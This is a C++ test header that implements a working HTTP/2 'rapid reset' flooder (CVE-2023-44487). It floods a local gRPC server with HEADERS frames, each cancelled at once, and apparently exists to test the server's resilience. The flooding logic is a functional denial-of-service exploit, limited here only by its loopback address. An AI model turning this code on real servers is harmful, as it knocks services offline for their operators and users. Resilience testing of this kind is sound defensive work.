#ifndef GPUEXEC_TESTS_SERVICE_H2_FLOODER_H_
#define GPUEXEC_TESTS_SERVICE_H2_FLOODER_H_

// An HTTP/2 "rapid reset" flooder (CVE-2023-44487), the smallest that
// reaches a gRPC server over plain TCP: the client preface and an empty
// SETTINGS, then, as fast as the socket takes them, HEADERS for a real
// method (HPACK literals only, no END_STREAM) each followed at once by
// RST_STREAM(CANCEL). It never sends credentials. Whatever the server
// sends is read and dropped (SETTINGS acknowledged once), so that its
// writes never stop it. A connection the server closes is opened again.
//
//   H2Flooder f(port, "/gpuexec.v1.GpuExec/ListDevices");
//   f.Run(absl::Seconds(3));   // blocks; f.streams() afterwards

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstdint>
#include <string>

#include "absl/time/clock.h"
#include "absl/time/time.h"

namespace gpuexec::testing {

class H2Flooder {
 public:
  H2Flooder(int port, std::string path) : port_(port), path_(std::move(path)) {}

  // Floods for `how_long` on one connection (opened again whenever the
  // server closes it).
  void Run(absl::Duration how_long) {
    const absl::Time end = absl::Now() + how_long;
    while (absl::Now() < end) {
      const int fd = Connect();
      if (fd < 0) {
        ++failed_connects_;
        poll(nullptr, 0, 10);
        continue;
      }
      ++connections_;
      Flood(fd, end);
      ::close(fd);
    }
  }

  uint64_t streams() const { return streams_; }
  uint64_t connections() const { return connections_; }
  uint64_t failed_connects() const { return failed_connects_; }

 private:
  static void Frame(std::string* out, uint8_t type, uint8_t flags, uint32_t stream,
                    const std::string& payload) {
    const uint32_t n = static_cast<uint32_t>(payload.size());
    out->push_back(static_cast<char>(n >> 16));
    out->push_back(static_cast<char>(n >> 8));
    out->push_back(static_cast<char>(n));
    out->push_back(static_cast<char>(type));
    out->push_back(static_cast<char>(flags));
    out->push_back(static_cast<char>((stream >> 24) & 0x7f));
    out->push_back(static_cast<char>(stream >> 16));
    out->push_back(static_cast<char>(stream >> 8));
    out->push_back(static_cast<char>(stream));
    out->append(payload);
  }

  // A literal header field without indexing: `index` names the static
  // table's name (0: a new name follows). Lengths under 127.
  static void Literal(std::string* block, uint8_t index, const std::string& name,
                      const std::string& value) {
    if (index == 0) {
      block->push_back(0);
      block->push_back(static_cast<char>(name.size()));
      block->append(name);
    } else if (index < 15) {
      block->push_back(static_cast<char>(index));
    } else {
      block->push_back(0x0f);
      block->push_back(static_cast<char>(index - 15));
    }
    block->push_back(static_cast<char>(value.size()));
    block->append(value);
  }

  std::string HeaderBlock() const {
    std::string b;
    b.push_back(static_cast<char>(0x83));  // :method POST
    b.push_back(static_cast<char>(0x86));  // :scheme http
    Literal(&b, 4, "", path_);             // :path
    Literal(&b, 1, "", "localhost");       // :authority
    Literal(&b, 31, "", "application/grpc");
    Literal(&b, 0, "te", "trailers");
    return b;
  }

  int Connect() const {
    const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(static_cast<uint16_t>(port_));
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (::connect(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0) {
      ::close(fd);
      return -1;
    }
    const int one = 1;
    ::setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    return fd;
  }

  // False once the connection is gone.
  bool Send(int fd, const std::string& bytes, absl::Time end, bool* acked) {
    size_t sent = 0;
    while (sent < bytes.size()) {
      if (!Drain(fd, acked)) return false;
      const ssize_t n =
          ::send(fd, bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL | MSG_DONTWAIT);
      if (n > 0) {
        sent += static_cast<size_t>(n);
        continue;
      }
      if (n < 0 && errno != EAGAIN && errno != EINTR) return false;
      if (absl::Now() >= end) return false;
      pollfd p{fd, POLLIN | POLLOUT, 0};
      ::poll(&p, 1, 50);
    }
    return true;
  }

  // Reads and drops what the server sent; acknowledges its SETTINGS once.
  bool Drain(int fd, bool* acked) {
    char buf[65536];
    for (;;) {
      const ssize_t n = ::recv(fd, buf, sizeof buf, MSG_DONTWAIT);
      if (n > 0) {
        if (!*acked) {
          *acked = true;
          std::string ack;
          Frame(&ack, 4, 1, 0, "");
          (void)!::send(fd, ack.data(), ack.size(), MSG_NOSIGNAL);
        }
        continue;
      }
      if (n == 0) return false;
      return errno == EAGAIN || errno == EINTR;
    }
  }

  void Flood(int fd, absl::Time end) {
    std::string hello = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    Frame(&hello, 4, 0, 0, "");
    bool acked = false;
    if (!Send(fd, hello, end, &acked)) return;
    const std::string block = HeaderBlock();
    const std::string cancel("\0\0\0\x08", 4);
    uint32_t stream = 1;
    std::string batch;
    while (absl::Now() < end && stream < (1u << 30)) {
      batch.clear();
      for (int i = 0; i < 64; ++i, stream += 2) {
        Frame(&batch, 1, 0x4, stream, block);  // HEADERS, END_HEADERS
        Frame(&batch, 3, 0, stream, cancel);   // RST_STREAM(CANCEL)
      }
      if (!Send(fd, batch, end, &acked)) return;
      streams_ += 64;
    }
  }

  const int port_;
  const std::string path_;
  uint64_t streams_ = 0;
  uint64_t connections_ = 0;
  uint64_t failed_connects_ = 0;
};

}  // namespace gpuexec::testing

#endif  // GPUEXEC_TESTS_SERVICE_H2_FLOODER_H_
